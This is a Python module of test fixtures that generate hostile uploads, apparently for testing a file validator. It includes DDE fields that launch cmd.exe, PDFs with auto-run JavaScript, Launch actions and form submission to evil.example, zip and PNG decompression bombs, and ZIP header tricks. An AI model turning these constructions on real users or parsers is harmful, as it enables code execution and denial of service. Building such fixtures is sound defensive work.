"""Files as strangers send them, good and bad, each made on the fly."""

import io
import struct
import zlib
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

import pikepdf
from PIL import Image, PngImagePlugin

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BODY = '<w:document xmlns:w="urn:w"><w:body><w:p><w:r><w:t>申请</w:t></w:r></w:p>{more}</w:body></w:document>'


def content_types(main=f"{WORD}.document.main+xml", more=""):
    return (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>{more}</Types>'
    )


def relations(*links):
    rows = "".join(
        f'<Relationship Id="r{number}" Type="{RELATIONSHIPS}/{kind}" Target="{target}" TargetMode="External"/>'
        for number, (kind, target) in enumerate(links)
    )
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rows}</Relationships>'


def package(parts, method=ZIP_DEFLATED):
    out = io.BytesIO()
    with ZipFile(out, "w", method) as target:
        for name, data in parts.items() if isinstance(parts, dict) else parts:
            target.writestr(name, data)
    return out.getvalue()


def docx(more="", parts=(), types=None):
    return package({
        "[Content_Types].xml": types or content_types(),
        "word/document.xml": BODY.format(more=more),
        **dict(parts),
    })  # fmt: skip


def docx_with_links(*links):
    return docx(parts={"word/_rels/document.xml.rels": relations(*links)})


SPREADSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"
SLIDES = "application/vnd.openxmlformats-officedocument.presentationml"


END = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def field(*parts):
    """Return a Word field in runs: a text is its words, a tuple a field that stands in it, None its separator."""
    runs = ['<w:r><w:fldChar w:fldCharType="begin"/></w:r>']
    for part in parts:
        if isinstance(part, tuple):
            runs.append(field(*part))
        elif part is None:
            runs.append('<w:r><w:fldChar w:fldCharType="separate"/></w:r>')
        else:
            runs.append(f"<w:r><w:instrText>{part}</w:instrText></w:r>")
    return "".join([*runs, END])


SPELLED = field(("QUOTE 68 68 69 65 85 84 79", None), " c:\\\\cmd.exe", None)  # DDEAUTO in numbers


def relation(kind, target="part.xml", base=RELATIONSHIPS):
    """Return relationships with one inside of the package."""
    head = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    return f'{head}<Relationship Id="r1" Type="{base}/{kind}" Target="{target}"/></Relationships>'


def xlsx(formula="", parts=(), types=""):
    sheet = f'<worksheet><sheetData><row><c r="A1"><f>{formula}</f></c></row></sheetData></worksheet>'
    return package({
        "[Content_Types].xml": content_types(f"{SPREADSHEET}.sheet.main+xml", types),
        "xl/worksheets/sheet1.xml": sheet,
        **dict(parts),
    })  # fmt: skip


def sheet_with(xml):
    return xlsx(parts={"xl/worksheets/sheet2.xml": f"<worksheet>{xml}</worksheet>"})


def pptx(slide):
    types = content_types(f"{SLIDES}.presentation.main+xml")
    return package({"[Content_Types].xml": types, "ppt/slides/slide1.xml": f"<p:sld xmlns:p='p'>{slide}</p:sld>"})


def hidden_entry():
    """A part whose bytes are there, and which the directory does not know."""
    out = io.BytesIO()
    with ZipFile(out, "w") as target:
        target.writestr("[Content_Types].xml", content_types())
        target.writestr("a.html", "<script>alert(1)</script>")
        target.writestr("word/document.xml", BODY.format(more=""))
        target.filelist.remove(target.getinfo("a.html"))
    return out.getvalue()


def two_sizes():
    """A part that is as long as its own header says, or as long as the directory says."""
    data = bytearray(package({"[Content_Types].xml": content_types(), "word/document.xml": BODY}, ZIP_STORED))
    at = data.index(b"word/document.xml") - 8
    struct.pack_into("<L", data, at, 3)
    return bytes(data)


def odt(parts=()):
    """An OpenDocument text, with a macro and a picture from elsewhere."""
    body = '<draw:image xmlns:draw="d" xmlns:xlink="x" xlink:href="http://evil.example/a.png"/>'
    return package({
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": f"<office>{body}</office>",
        "Basic/Standard/Module1.xml": "<module>Shell</module>",
        **dict(parts),
    }, ZIP_STORED)  # fmt: skip


RTF = rb"{\rtf1{\object\objocx\objupdate{\*\objdata 0105000002000000}}{\field{\*\fldinst DDEAUTO cmd /c calc}}}"
MHT = b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<script>alert(1)</script>"


def ofd(**parts):
    return package({"OFD.xml": "<OFD/>", "Doc_0/Document.xml": "<Document/>", **parts})


def large_part():
    """500 MB of spaces in half a megabyte; written by hand, for compressing them takes seconds."""
    piece, times = b" " * (1 << 20), 500
    writer = zlib.compressobj(wbits=-zlib.MAX_WBITS)
    packed = (writer.compress(piece) + writer.flush(zlib.Z_FULL_FLUSH)) * times + writer.flush()
    crc = 0
    for _ in range(times):
        crc = zlib.crc32(piece, crc)
    out = io.BytesIO()
    with ZipFile(out, "w") as target:
        target.writestr("[Content_Types].xml", content_types())
        target.writestr("word/document.xml", packed)
        entry = target.getinfo("word/document.xml")
        entry.compress_type, entry.CRC, entry.file_size = ZIP_DEFLATED, crc, times << 20
        at = entry.header_offset
    data = bytearray(out.getvalue())
    struct.pack_into("<H", data, at + 8, ZIP_DEFLATED)
    struct.pack_into("<3L", data, at + 14, crc, len(packed), times << 20)
    return bytes(data)


def lying_part():
    """Says that a part has 100 bytes, and it has 50 million."""
    data = docx(parts={"word/media/image1.png": b"\0" * 50_000_000})
    size = struct.pack("<L", 50_000_000)
    return data.replace(size, struct.pack("<L", 100))


def many_entries():
    return docx(parts={f"word/media/i{number}.png": b"" for number in range(5_100)})


def overlapping():
    """Two names for the bytes of one part."""
    data = bytearray(docx(parts={"word/a.xml": "<a/>", "word/b.xml": "<a/>"}))
    with ZipFile(io.BytesIO(data)) as opened:
        first, second = (opened.getinfo(name).header_offset for name in ("word/a.xml", "word/b.xml"))
    at = data.rindex(struct.pack("<L", second) + b"word/b.xml")
    data[at : at + 4] = struct.pack("<L", first)
    return bytes(data)


def with_name(name, data=b"<a/>", **about):
    out = io.BytesIO(docx())
    with ZipFile(out, "a", ZIP_DEFLATED) as target:
        entry = ZipInfo("placeholder")
        entry.filename = name
        for key, value in about.items():
            setattr(entry, key, value)
        target.writestr(entry, data)
    return out.getvalue()


def encrypted_entry():
    data = bytearray(docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.index(mark)
        data[at + offset] |= 1
    return bytes(data)


def two_ends():
    data = docx()
    return data + data[data.rindex(b"PK\x05\x06") :]


def commented():
    out = io.BytesIO(docx())
    with ZipFile(out, "a") as target:
        target.comment = b"<html><script>alert(1)</script>"
    return out.getvalue()


def ole(stream="WordDocument"):
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + stream.encode("utf-16-le") + bytes(500)


def pdf(change=None, pages=1, **saving):
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page(page_size=(595, 842))
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out, **({} if saving else {"deterministic_id": True}), **saving)
    return out.getvalue()


def script(document):
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def opens_with_script(document):
    document.Root.OpenAction = document.make_indirect(script(document))


def named_script(document):
    names = pikepdf.Array([pikepdf.String("a"), script(document)])
    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=names))


def launches(document):
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    annotation = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 600, 800], A=launch)
    document.pages[0].Annots = pikepdf.Array([annotation])


def page_acts(document):
    document.pages[0].AA = pikepdf.Dictionary(O=script(document))


def chained(document):
    shown = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[0], Next=pikepdf.Array([script(document)]))
    document.Root.OpenAction = shown


def opens_an_address(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("http://evil.example/"))


def goes_on_to_an_address(document):
    address = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("http://evil.example/"))
    after = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.NextPage, Next=address))
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[0], Next=pikepdf.Array([after]))


def linked(document, address="https://www.example.gov.cn/", **deed):
    deed = deed or {"S": pikepdf.Name.URI, "URI": pikepdf.String(address)}
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=pikepdf.Dictionary(**deed)
    )
    document.pages[0].Annots = pikepdf.Array([link])


def sends_a_form(document):
    linked(document, S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://evil.example/"))


def draws_another_file(document):
    form = document.make_stream(b"", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 9, 9])
    form.Ref = pikepdf.Dictionary(F=pikepdf.String("//evil.example/a.pdf"), Page=0)
    document.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=form))


def reads_another_file(document):
    stream = document.make_stream(b"")
    stream.F = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("//evil.example/a"))
    document.pages[0].Contents = stream


def attaches(document):
    document.attachments["a.exe"] = b"MZ"


def plays(document):
    annotation = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9])
    document.pages[0].Annots = pikepdf.Array([annotation])


def protected(user):
    return pdf(encryption=pikepdf.Encryption(owner="a", user=user))


def only_one_program(document):
    document.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.String("x"), Fields=pikepdf.Array())


def wide(document):
    document.pages[0].MediaBox = pikepdf.Array([0, 0, 566_929, 566_929])  # 200 m


def looping_pages():
    return pdf(lambda document: document.Root.Pages.Kids.append(document.Root.Pages))


def picture(form="JPEG", size=(40, 30), mode="RGB", **saving):
    out = io.BytesIO()
    Image.new(mode, size).save(out, form, **saving)
    return out.getvalue()


def located():
    """A JPEG that says where it was taken, by whom, with a comment; it lies on its side."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turn it by 90 degrees
    exif[0x013B] = "Wang Jianguo"
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (38.0, 29.0, 10.0)
    return picture(exif=exif, comment=b"at home")


def noted_png():
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Author", "Wang Jianguo")
    return picture("PNG", pnginfo=notes)


def huge_png():
    """30,000 x 30,000 points of one bit: a few KB."""
    head = struct.pack(">2L5B", 30_000, 30_000, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(3751) * 100)

    def chunk(kind, data):
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def moving_png():
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def heic():
    import pillow_heif

    pillow_heif.register_heif_opener()
    return picture("HEIF", size=(64, 48))


def jar():
    return package({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"}, ZIP_STORED)
